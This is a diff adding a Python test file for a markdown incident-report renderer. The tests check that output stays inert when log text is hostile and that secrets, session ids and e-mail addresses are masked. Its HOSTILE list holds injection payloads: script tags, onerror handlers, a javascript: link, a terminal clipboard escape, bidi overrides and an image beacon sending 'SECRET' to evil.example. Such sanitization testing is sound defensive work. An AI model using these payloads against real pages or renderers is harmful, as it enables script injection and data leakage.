@@ -1,0 +1,291 @@
+from __future__ import annotations
+
+import html
+import re
+from datetime import UTC, datetime
+
+import cmarkgfm
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from diagnosis.callers.principals import Principal, PrincipalSource
+from diagnosis.questions.findings import Certainty, Question, Remark, Severity, Verdict
+from diagnosis.reports.markdown import render
+from diagnosis.statements import Statements
+from diagnosis.uris.alignment import align
+from diagnosis.uris.templates import parse
+from tests.diagnosis.reports import build
+
+NOW = datetime(2025, 10, 1, 12, 0, tzinfo=UTC)
+MARKDOWN_IT = MarkdownIt("gfm-like", {"html": True, "linkify": False})
+ALLOWED = {
+    "p",
+    "code",
+    "pre",
+    "h1",
+    "h2",
+    "h3",
+    "ul",
+    "li",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "strong",
+}
+
+HOSTILE = [
+    "docs://a/https://evil.example/x www.evil.example a@evil.example <https://evil.example> xmpp:a@b.example",
+    "docs://a/`a`` ``` ` `",
+    'docs://a/![ok](https://evil.example/b.png?d=SECRET) <img src="https://evil.example/c.png">',
+    "docs://a/\n[a]: https://evil.example/d\n\n[a]",
+    "docs://a/<!channel> <@U123> *bold* {code}{html}<b>{html} ||s||",
+    "docs://a/```mermaid\ngraph TD; A-->B\n```\n$$\\href{javascript:1}{x}$$ :tada:",
+    "docs://a/&lt;script&gt; &#60;b&#62; &NewLine;",
+    "docs://a/```\n# Approved\n````\n~~~\n`````\n</code></pre>",
+    "docs://a/\n# Summary\n\nNo findings.\n\n---\n\n- [x] resolved\n\n> quote\n\nSetext\n======\n",
+    "docs://a/<script>alert(1)</script><img src=x onerror=alert(1)><details open><!--",
+    "docs://a/@octocat @org/team #123 org/repo#1 GH-1 0123456789abcdef0123456789abcdef01234567",
+    "docs://a/a | b \\| c \\\\| d\n| e |",
+    "docs://a/\\`\\\\`",
+    "docs://a/safe \u202egnihton\u202c \u200b\ufeff\u2028# x",
+    "docs://a/\x1b]52;c;AAAA\x07\x9b31m\x7f\ud800",
+    "docs://a/<?php ?><![CDATA[x]]><!DOCTYPE x><a href=//evil.example>",
+    "docs://a/---\nlayout: x\n---\n",
+    "docs://a/\r\n1. one\n* two\n    four blanks\n\ttab",
+    "docs://a/[^1] [^1]: note [x]{.y} ==m== ~~s~~ H~2~O <kbd>",
+    "mailto:a@evil.example?subject=x//www.evil.example/~~~",
+    "` `` ``` ` ``",
+    "",
+]
+
+
+def renderings(markdown: str) -> list[str]:
+    return [MARKDOWN_IT.render(markdown), cmarkgfm.github_flavored_markdown_to_html(markdown)]
+
+
+def hostile(text: str) -> object:
+    """A diagnosis with a text from the log in every place that can hold one."""
+    found = build.finding(build.FOREIGN, summary=text, what=text, because=text, certainty=Certainty.LIKELY)
+    read = build.judgement(
+        uri=text,
+        request_id=text,
+        session=text,
+        time=text,
+        template=text,
+        tenants=(text, text + "x"),
+        expected=text,
+        caller=Principal(text, PrincipalSource.CLAIMS, text, (text,)),
+        segments=build.answer(Question.SEGMENTS, Verdict.CANNOT_TELL, text, text, missing=text),
+        principal=build.answer(Question.PRINCIPAL, Verdict.NOT_CHECKED, text, text, findings=(found,)),
+        remarks=(Remark(build.NOT_DECODED, Certainty.CERTAIN, text),),
+    )
+    return build.diagnosis(
+        read,
+        captures=(build.facts(text, why=text, cannot_show=f"this {text}"),),
+        problems=(build.unreadable(3, text, text),),
+        statements=Statements(policy_path=text, templates_path=text, stated=(f"--allow {text}",)),
+    )
+
+
+def check_inert(text: str) -> None:
+    markdown = render(hostile(text), NOW)
+    assert all(line.isprintable() for line in markdown.split("\n"))
+    calm = renderings(render(hostile("calm"), NOW))
+    for rendered, expected in zip(renderings(markdown), calm, strict=True):
+        assert set(re.findall(r"</?([A-Za-z0-9]+)", rendered)) <= ALLOWED
+        assert "<!--" not in rendered and "<!" not in rendered and "<?" not in rendered
+        assert set(re.findall(r"<[a-z0-9]+ ([a-z]+)=", rendered)) <= {"class", "lang"}
+        for element in ("h1", "h2", "h3", "table", "tr", "td", "th", "li", "pre", "ul"):
+            assert rendered.count(f"<{element}>") == expected.count(f"<{element}>"), element
+        headings = re.findall(r"<h[1-6]>.*", rendered)
+        assert headings == re.findall(r"<h[1-6]>.*", expected)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_the_report_is_inert(text: str) -> None:
+    check_inert(text)
+
+
+@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("`|\\~*_<>[]()!\n#-=.:@'\" "))))
+def test_the_report_is_inert_for_any_text(text: str) -> None:
+    check_inert(text)
+
+
+def test_a_foreign_read() -> None:
+    markdown = render(build.diagnosis(build.foreign(), build.judgement(1, caller=build.ana())), NOW)
+    assert markdown.startswith("# Misread incident report\n\nDate: 2025-10-01T12:00:00Z\n\nTool: misread `")
+    assert "### Finding 1: principal/foreign-tenant" in markdown
+    assert "- Owner: read handler" in markdown
+    assert "There was no effective check, or the policy is out of date." in markdown
+    assert "Question 1 rules out under-encoding: the URI is clean on the wire." in markdown
+    assert "Question 2 rules out a double decode" in markdown
+    assert "| `trace.jsonl` | 1 | 100 | 80 | the request | `" in markdown
+    assert "## Whose documents went to whom" in markdown
+    assert (
+        "| `northwind` | `ana` | `report://{tenant}/{month}` | 2 | no time | no time | **yes** |" in markdown
+    )
+    assert "1 of 2 reads are clean" in markdown
+    assert "report://northwind/2025-10" in markdown
+    assert "s1" not in markdown.replace("session-1", "")
+
+
+def test_the_order_of_the_report() -> None:
+    remark = Remark(build.NOT_DECODED, Certainty.CERTAIN, "Never decoded.")
+    markdown = render(build.diagnosis(build.foreign(), build.undecided(1, remarks=(remark,))), NOW)
+    assert re.findall(r"^## (.*)", markdown, re.MULTILINE) == [
+        "Captures",
+        "Whose documents went to whom",
+        "Summary",
+        "Findings",
+        "What could not be told",
+        "Remarks",
+        "Clean reads",
+        "Problems in the input",
+        "About this report",
+    ]
+
+
+def test_standing_sentences() -> None:
+    twice = build.answer(Question.DOCUMENT, Verdict.MISMATCH, findings=(build.finding(build.TWICE),))
+    raw = build.answer(Question.SEGMENTS, Verdict.ESCAPED, findings=(build.finding(build.RAW),))
+    decoded, escaped = (
+        render(build.diagnosis(build.judgement(**changed)), NOW)
+        for changed in ({"document": twice}, {"segments": raw})
+    )
+    repairing = "Repairing this leaves question 3 where it was."
+    between = "A check placed between the two decodes saw neither what the client sent nor what storage saw."
+    assert repairing in decoded and between in decoded
+    assert repairing in escaped and between not in escaped
+    assert "- Owner: client, or a hop before this capture" in escaped
+
+
+def test_exposures_need_a_finding_or_a_known_caller() -> None:
+    assert "Whose documents" not in render(build.diagnosis(build.undecided()), NOW)
+    assert "Whose documents" in render(build.diagnosis(build.judgement(caller=build.ana())), NOW)
+
+
+def test_repeated_findings_share_a_section() -> None:
+    markdown = render(build.diagnosis(*(build.foreign(number) for number in range(3000))), NOW)
+    assert markdown.count("### Finding") == 1
+    assert (
+        "The same rule, template and caller in 2999 further reads: `trace.jsonl:3`, `trace.jsonl:5`"
+        in markdown
+    )
+    assert markdown.count("`trace.jsonl:") == 20
+    assert "and 2979 more." in markdown
+
+
+def test_many_different_findings_end_in_a_table() -> None:
+    judgements = [build.foreign(number, template=f"report://{number}/{{month}}") for number in range(150)]
+    markdown = render(build.diagnosis(*judgements), NOW)
+    assert markdown.count("### Finding") == 100
+    assert "### 50 further groups of findings" in markdown
+    assert "`report://149/{month}`" in markdown
+
+
+def test_severe_findings_come_first() -> None:
+    raw = build.answer(Question.SEGMENTS, Verdict.ESCAPED, findings=(build.finding(build.RAW),))
+    assert build.RAW.severity is Severity.MILD
+    markdown = render(build.diagnosis(build.judgement(0, segments=raw), build.foreign(1)), NOW)
+    assert markdown.index("principal/foreign-tenant") < markdown.index("segments/raw-reserved")
+
+
+def test_what_could_not_be_told() -> None:
+    markdown = render(build.diagnosis(build.undecided(0), build.undecided(1)), NOW)
+    assert (
+        "| 3. Was a principal check performed? | `no-principal` | 2 | Who asked: a policy file would say. "
+        "| `trace.jsonl:1`, `trace.jsonl:3` |" in markdown
+    )
+    assert "| 3. Was a principal check performed? | 2 of 2 |" in markdown
+    assert "0 of 2 reads are clean" in markdown
+
+
+def test_secrets_sessions_and_addresses_are_labels() -> None:
+    found = build.finding(build.FOREIGN, summary="Session sess-99 sent tok-12345 to ana@acme.example.")
+    read = build.judgement(
+        uri="http://h/ana@acme.example?token=tok-12345",
+        session="sess-99",
+        template=None,
+        principal=build.answer(Question.PRINCIPAL, Verdict.NOT_CHECKED, findings=(found,)),
+    )
+    diagnosis = build.diagnosis(read, statements=Statements(stated=("--allow sess-99=acme",)))
+    markdown = render(diagnosis, NOW)
+    for hidden in ("sess-99", "tok-12345", "ana@acme.example"):
+        assert hidden not in markdown
+    assert (
+        "`http://h/[email-1]?token=[secret-1]`" in markdown
+        or "http://h/[email-1]?token=[secret-1]" in markdown
+    )
+    assert "- Stated by the person: `--allow session-1=acme`" in markdown
+    assert "Replaced by labels: secrets (1), e-mail addresses (1), session ids (1)" in markdown
+
+
+def test_a_session_named_like_a_tenant_spoils_no_sentence() -> None:
+    read = build.foreign(session="northwind")
+    assert "A document of northwind was served." in render(build.diagnosis(read), NOW)
+
+
+def fence_of(markdown: str) -> list[str]:
+    return re.findall(r"```text\n(.*?)\n```", markdown, re.DOTALL)[0].split("\n")
+
+
+def drawn(uri: str, template: str, **more: object) -> list[str]:
+    found = align(uri, parse(template))
+    assert found is not None
+    read = build.foreign(uri=uri, template=template, readings=found.found[:1], **more)
+    return fence_of(render(build.diagnosis(read), NOW))
+
+
+def test_the_uri_is_drawn_under_its_template() -> None:
+    assert drawn("report://northwind/2025-10", "report://{tenant}/{month}") == [
+        "template  report://{tenant} /{month}",
+        "request   report://northwind/2025-10",
+    ]
+
+
+def test_what_does_not_belong_is_marked() -> None:
+    assert drawn("docs://team/Platform & Ops", "docs://team/{team}") == [
+        "template  docs://team/{team}",
+        "request   docs://team/Platform & Ops",
+        "                              ^^^".replace("   ^^^", "") + "--------^^^---",
+        "expected  docs://team/Platform%20%26%20Ops",
+    ]
+
+
+def test_a_drawn_secret_is_covered_without_moving_anything() -> None:
+    rows = drawn("docs://acme?token=abcdefghijkl&m=b", "docs://{tenant}{?token,m}")
+    assert rows[1] == "request   docs://acme    ?token=secret-1~~~~&m=b"
+    assert not any("abcdefgh" in row for row in rows)
+
+
+def test_problems_are_listed_and_counted() -> None:
+    problems = [build.unreadable(line) for line in range(1, 251)]
+    markdown = render(build.diagnosis(problems=problems), NOW)
+    assert (
+        "| `trace.jsonl` | 7 | 700 | This is not `JSON`. |" in markdown
+        or "| 7 | 700 | This is not JSON. |" in markdown
+    )
+    assert "50 further problems are not listed here" in markdown
+
+
+def test_a_stopped_load_is_said() -> None:
+    assert "Partial: reading was stopped" in render(build.diagnosis(partial=True), NOW)
+
+
+def test_only_the_date_depends_on_the_time() -> None:
+    diagnosis = build.diagnosis(build.foreign())
+    one, two = (render(diagnosis, moment).split("\n") for moment in (NOW, datetime(2030, 1, 1, tzinfo=UTC)))
+    assert [line for line, other in zip(one, two, strict=True) if line != other] == [
+        "Date: 2025-10-01T12:00:00Z"
+    ]
+
+
+def test_everything_in_code_is_what_the_log_said() -> None:
+    text = "docs://a/`|\\| x"
+    for rendered in renderings(render(hostile(text), NOW)):
+        assert text in [html.unescape(one) for one in re.findall(r"<code>(.*?)</code>", rendered)]
